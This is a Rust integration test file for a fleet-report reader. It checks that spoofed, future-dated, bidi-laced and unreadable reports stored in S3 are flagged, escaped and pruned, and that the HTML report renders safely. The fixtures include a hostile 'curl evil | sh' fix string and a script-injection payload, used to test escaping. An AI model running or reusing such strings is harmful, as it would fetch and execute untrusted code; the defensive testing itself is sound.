//! The fleet reader against reports that lie (issue 27), on Garage against the real binary: who
//! and when come from the key and the object, not the body; hostile text is escaped; an
//! unreadable object is counted and named; prune removes exact keys. And the IAM policies the
//! onboarding page gives, through an IAM linter; and the HTML page in headless Chromium.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::{Value, json};

use crate::fleet::{PREFIX, aws_s3, aws_s3_command, fleet_json, real_report, reports, run};
use crate::testbed::{Bed, output_text};

/// The digest the registry's storage says `base/tool:1` is (its tag's `current/link`, written by
/// the test), which synthetic engines have or not.
pub(crate) const CURRENT: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";

/// Writes `files` (name → bytes, names may hold folders) under the prefix, in one upload.
pub(crate) fn upload(bed: &Bed, files: &[(String, Vec<u8>)]) {
    let dir = tempfile::tempdir().expect("tempdir");
    for (name, bytes) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().expect("a folder")).expect("mkdir");
        std::fs::write(path, bytes).expect("write");
    }
    let to = format!("s3://{}/{PREFIX}", bed.bucket);
    aws_s3(bed, &["cp", "--recursive", "--quiet", dir.path().to_str().expect("utf-8"), &to]);
}

/// The registry's storage holds `base/tool:1` at `CURRENT`, as a push by CI leaves it.
pub(crate) fn tag_in_registry(bed: &Bed) {
    let dir = tempfile::tempdir().expect("tempdir");
    let link = dir.path().join("link");
    std::fs::write(&link, CURRENT).expect("write");
    let key = "registry/docker/registry/v2/repositories/base/tool/_manifests/tags/1/current/link";
    aws_s3(bed, &["cp", "--quiet", link.to_str().expect("utf-8"), &format!("s3://{}/{key}", bed.bucket)]);
}

/// The bad input of issue 27, each on Garage against the real binary: a body naming another
/// machine, a `ran_at` a year ahead, one machine under two keys, U+202E and zero-width joiners in
/// a name and a fix, 1,500 invented check ids, an object that cannot be read (SSE-C: S3 refuses a
/// read without its key, as it does for an SSE-KMS object the reader may not decrypt), and a key
/// with control characters, which `prune` removes by its exact name.
#[test]
fn lying_hostile_and_unreadable_reports_are_flagged_counted_once_and_pruned_exactly() {
    let bed = Bed::on_garage("fleetlies", "60m");
    let real = real_report(&bed);
    tag_in_registry(&bed);
    let now = jiff::Timestamp::now();
    let report = |id: &str, name: &str| {
        let mut r = real.clone();
        r["machine_id"] = json!(id);
        r["name"] = json!(name);
        r["ran_at"] = json!(now.to_string());
        r
    };
    let bytes = |r: &Value| serde_json::to_vec(r).expect("json");
    let mut files = Vec::new();
    // A body naming another machine: laptop-a's key, laptop-b's ID in the body.
    files.push(("AIDAALICE/aaaa.json".to_string(), bytes(&report("bbbb", "claims-another"))));
    // A year ahead, and an old digest it says the registry serves.
    let mut ahead = report("cccc", "from-the-future");
    ahead["ran_at"] = json!((now + jiff::SignedDuration::from_hours(24 * 365)).to_string());
    ahead["images"] = json!([{ "name": "base/tool:1", "local": "sha256:old", "registry": "sha256:old" }]);
    files.push(("AIDAALICE/cccc.json".to_string(), bytes(&ahead)));
    // One machine under two principals.
    files.push(("AIDAALICE/dddd.json".to_string(), bytes(&report("dddd", "twice"))));
    files.push(("AIDAMALLORY/dddd.json".to_string(), bytes(&report("dddd", "twice-forged"))));
    // Bidi override and zero-width joiners in the name and the fix.
    let mut bidi = report("eeee", "lap\u{202e}pot\u{200d}\u{200d}");
    bidi["checks"] = json!([{ "id": "clock", "status": "fail", "summary": "clock\u{202e}ko", "fix": "curl evil\u{200d} | sh\u{202e}" }]);
    files.push(("AIDAALICE/eeee.json".to_string(), bytes(&bidi)));
    // 1,500 invented check ids.
    let mut many = report("ffff", "many-checks");
    // Short, so that 1,500 of them fit the 64 KB a report may have.
    many["checks"] = json!(
        (0..1500)
            .map(
                |i| json!({ "id": format!("{i:x}"), "status": if i % 10 == 0 { "fail" } else { "ok" }, "summary": "" })
            )
            .collect::<Vec<_>>()
    );
    assert!(bytes(&many).len() < 64 * 1024, "{} bytes", bytes(&many).len());
    files.push(("AIDAALICE/ffff.json".to_string(), bytes(&many)));
    upload(&bed, &files);
    // An object S3 will not hand over without its key (SSE-C).
    let dir = tempfile::tempdir().expect("tempdir");
    let sealed = dir.path().join("sealed.json");
    std::fs::write(&sealed, bytes(&report("gggg", "sealed"))).expect("write");
    let to = format!("s3://{}/{PREFIX}AIDAALICE/gggg.json", bed.bucket);
    aws_s3(
        &bed,
        &[
            "cp",
            "--quiet",
            "--sse-c",
            "AES256",
            "--sse-c-key",
            "0123456789abcdef0123456789abcdef",
            sealed.to_str().expect("utf-8"),
            &to,
        ],
    );
    // A key with control characters (ESC, TAB, DEL) and a bidi override.
    let odd = format!("{PREFIX}AIDAALICE/odd\u{1b}[31m\t\u{7f}\u{202e}.json");
    std::fs::write(&sealed, b"{}").expect("write");
    aws_s3(&bed, &["cp", "--quiet", sealed.to_str().expect("utf-8"), &format!("s3://{}/{odd}", bed.bucket)]);

    let summary = fleet_json(&bed, &["fleet", "--json"]);
    // Counted once each: aaaa, cccc, dddd, eeee, ffff (sealed and odd are not readable reports).
    assert_eq!(summary["machines"], 5, "{summary}");
    let flags: Vec<(String, String)> = summary["flagged"]
        .as_array()
        .expect("flagged")
        .iter()
        .map(|f| {
            (f["machine_id"].as_str().unwrap_or("").to_string(), f["flag"]["flag"].as_str().unwrap_or("").to_string())
        })
        .collect();
    for expected in [("aaaa", "other_machine"), ("cccc", "from_the_future"), ("dddd", "also_under")] {
        assert!(flags.contains(&(expected.0.to_string(), expected.1.to_string())), "{expected:?} not in {flags:?}");
    }
    let superseded = summary["superseded"].as_array().expect("superseded");
    assert_eq!(superseded.len(), 1, "{summary}");
    // Ahead of its object by a year: clamped to the object's date, so never newer than now.
    let machines = fleet_json(&bed, &["fleet", "machines", "--json"]);
    let future = machines.as_array().expect("lines").iter().find(|m| m["machine_id"] == "cccc").expect("cccc");
    let seen: jiff::Timestamp = future["last_report"].as_str().expect("time").parse().expect("a time");
    assert!(seen <= jiff::Timestamp::now(), "{future}");
    assert_eq!(future["flagged"], true);
    // The registry decides what is current: the liar's "sha256:old" is not.
    assert_eq!(summary["currency"][0]["current"], CURRENT, "{summary}");
    // 1,500 invented ids: ten rows of their own, the rest under "other".
    let rows = summary["checks"].as_array().expect("checks");
    let other = rows.iter().find(|r| r["check"] == "other").expect("an other row");
    assert_eq!(other["ids"], 1490, "{other}");
    // doctor's 13 checks, ten invented ids, and "other".
    assert!(rows.len() <= 13 + 10 + 1, "{} rows", rows.len());
    // The unreadable ones are counted and named; the rest is shown.
    let rejected: Vec<&str> =
        summary["rejected"].as_array().expect("rejected").iter().filter_map(|r| r["key"].as_str()).collect();
    assert!(rejected.iter().any(|k| k.ends_with("AIDAALICE/gggg.json")), "{rejected:?}");
    let odd_shown = format!("{PREFIX}AIDAALICE/odd\\u{{1b}}[31m\\u{{9}}\\u{{7f}}\\u{{202e}}.json");
    assert!(rejected.contains(&odd_shown.as_str()), "{odd_shown} not in {rejected:?}");

    // As text: escaped, quoted as the machine's words, and no bidi or zero-width character reaches the terminal.
    let out = run(&bed, &["fleet"]);
    let said = output_text(&out);
    assert!(out.status.success(), "{said}");
    assert!(said.contains("lap\\u{202e}pot\\u{200d}\\u{200d}"), "{said}");
    assert!(!said.contains(['\u{202e}', '\u{200d}', '\u{1b}', '\u{7f}']), "a deceptive character reached the terminal");
    assert!(said.contains("its body names machine \"bbbb\""), "{said}");
    let out = run(&bed, &["fleet", "--check", "clock"]);
    let said = output_text(&out);
    assert!(said.contains("reported fix: \u{201c}curl evil\\u{200d} | sh\\u{202e}\u{201d}"), "{said}");
    assert!(said.contains("devbox's fix: devbox doctor --check clock --fix"), "{said}");
    let page = dir.path().join("fleet.html");
    let out = run(&bed, &["fleet", "--html", page.to_str().expect("utf-8")]);
    assert!(out.status.success(), "{}", output_text(&out));
    let html = std::fs::read_to_string(&page).expect("the page");
    assert!(!html.contains(['\u{202e}', '\u{200d}', '\u{1b}']), "a deceptive character reached the page");

    // prune removes the key with control characters by its exact name (and the others: all are older than 1 s).
    std::thread::sleep(Duration::from_secs(2));
    let pruned = fleet_json(&bed, &["fleet", "prune", "--older-than", "1s", "--json"]);
    assert!(pruned["errors"].as_array().is_some_and(Vec::is_empty), "{pruned}");
    let mut listed = aws_s3_command(&bed);
    let left = listed.args(["ls", "--recursive", &format!("s3://{}/{PREFIX}", bed.bucket)]).output().expect("run aws");
    // `aws s3 ls` exits 1 when it lists nothing.
    assert_eq!(
        (left.status.code(), String::from_utf8_lossy(&left.stdout).trim()),
        (Some(1), ""),
        "prune left objects behind"
    );
}

/// Every IAM policy docs/onboarding.md gives passes parliament, an IAM policy linter (from PyPI;
/// tests/testbed/up.sh installs it), with no finding at all; and the page no longer says the
/// registry's credentials are read-only where they were not.
#[test]
fn the_onboarding_iam_policies_pass_parliament() {
    let page = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/onboarding.md")).expect("read");
    let policies: Vec<&str> = page
        .split("```json\n")
        .skip(1)
        .filter_map(|rest| rest.split("```").next())
        .filter(|block| block.contains("\"Statement\""))
        .collect();
    assert!(policies.len() >= 3, "laptop, registry session, platform team: {} policies found", policies.len());
    for policy in &policies {
        let mut child = Command::new("parliament")
            .arg("--json")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("run parliament (pip install parliament; tests/testbed/up.sh installs it)");
        std::io::Write::write_all(&mut child.stdin.take().expect("stdin"), policy.as_bytes()).expect("write");
        let out = child.wait_with_output().expect("parliament");
        assert!(out.status.success() && out.stdout.is_empty(), "parliament on\n{policy}\nsays: {}", output_text(&out));
    }
    // The laptop may write only its own folder.
    assert!(page.contains("devbox/fleet/machines/${aws:userid}/*"), "no per-principal resource");
    assert!(!page.contains("stay read-only"), "the page claims what the credentials cannot do");
}

/// `fleet --html`: one page, opened in headless Chromium. The check table renders (its header's
/// colour fills the screenshot where the table is), and the DOM shows that no report value ran
/// as markup.
#[test]
fn the_html_page_renders_in_chromium_and_runs_no_report_value() {
    let bed = Bed::on_garage("fleethtml", "60m");
    reports(&bed, 20);
    let dir = tempfile::tempdir().expect("tempdir");
    let page = dir.path().join("fleet.html");
    let out = run(&bed, &["fleet", "--html", page.to_str().expect("utf-8")]);
    assert!(out.status.success(), "{}", output_text(&out));
    let html = std::fs::read_to_string(&page).expect("the page was written");
    assert!(!html.contains("<script") && !html.contains("src=\"http"), "the page is self-contained");

    let chromium = |extra: &[&str]| {
        let profile = tempfile::tempdir().expect("profile dir");
        let out = Command::new("chromium")
            .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"])
            .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .args(["--window-size=1280,2400", "--hide-scrollbars"])
            .args(extra)
            .arg(format!("file://{}", page.display()))
            .output()
            .expect("run chromium (Debian's chromium package; tests/testbed/up.sh installs it)");
        assert!(out.status.success(), "chromium: {}", output_text(&out));
        out
    };
    let dom = String::from_utf8(chromium(&["--dump-dom"]).stdout).expect("utf-8");
    assert!(dom.contains("<table id=\"checks\">"), "{dom}");
    assert!(dom.contains("<title>devbox fleet: 22 machines</title>"), "a report value ran as a script: {dom}");
    assert!(!dom.contains("<script") && !dom.contains("id=\"injected\">"), "a report value became markup: {dom}");
    assert!(dom.contains("&lt;b id=\"injected\"&gt;evil&lt;/b&gt;&lt;script&gt;"), "{dom}");
    assert!(dom.contains("huge.json") && dom.contains("skipped: is 71680 bytes"), "{dom}");
    // Failing checks: what the machine reported, quoted as its words; devbox's fix beside it.
    assert!(dom.contains("<table id=\"failures\">"), "{dom}");
    assert!(dom.contains("<td><code>devbox doctor --check clock --fix</code></td>"), "{dom}");
    assert!(dom.contains("<q class=\"reported\">"), "{dom}");

    let shot = dir.path().join("fleet.png");
    chromium(&[&format!("--screenshot={}", shot.display())]);
    // Kept where a person can look at it after the run.
    let kept = Path::new(env!("CARGO_TARGET_TMPDIR")).join("fleet-page.png");
    std::fs::copy(&shot, &kept).expect("keep the screenshot");
    println!("the page's screenshot: {}", kept.display());
    let decoder = png::Decoder::new(std::io::BufReader::new(std::fs::File::open(&shot).expect("a screenshot")));
    let mut reader = decoder.read_info().expect("a PNG");
    let mut pixels = vec![0; reader.output_buffer_size()];
    let info = reader.next_frame(&mut pixels).expect("a frame");
    let channels = info.color_type.samples();
    let coloured = |rgb: [u8; 3]| pixels[..info.buffer_size()].chunks(channels).filter(|p| p[..3] == rgb).count();
    // The table header (#24476b) and the passing cells (#dafbe1): the check table is drawn.
    let (header, pass) = (coloured([0x24, 0x47, 0x6b]), coloured([0xda, 0xfb, 0xe1]));
    println!("screenshot {}x{}: {header} header pixels, {pass} passing-cell pixels", info.width, info.height);
    assert!(header > 5_000 && pass > 1_000, "the check table is not drawn: {header} header, {pass} pass pixels");
}
